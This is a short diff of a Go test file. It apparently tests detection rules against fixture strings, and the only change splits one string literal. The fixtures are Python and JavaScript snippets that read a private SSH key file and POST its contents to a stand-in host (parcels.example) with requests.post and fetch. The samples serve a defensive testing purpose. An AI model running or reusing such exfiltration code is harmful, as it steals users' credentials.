@@ -57,7 +57,8 @@ func TestNamesAreTheirFiles(t *testing.T) {
 func TestNamesPutTogether(t *testing.T) {
 	r := rules(t)
 	python := "def fetch_all(kept):\n    return open('/home/x/.ssh/id_rsa').read()\n"
-	script := "const fs = require('fs');\nexports.fetchAll = function fetchAll(kept) { return fs.readFileSync('/home/x/.ssh/id_rsa', 'utf8'); }\n"
+	script := "const fs = require('fs');\n" +
+		"exports.fetchAll = function fetchAll(kept) { return fs.readFileSync('/home/x/.ssh/id_rsa', 'utf8'); }\n"
 	post := "import requests, importlib\n%s\nrequests.post('https://parcels.example/in', data=m.fetch_all(1))\n"
 	fetch := "%s\nfetch('https://parcels.example/in', {method: 'POST', body: m.fetchAll(1)});\n"
 	for _, x := range []struct {
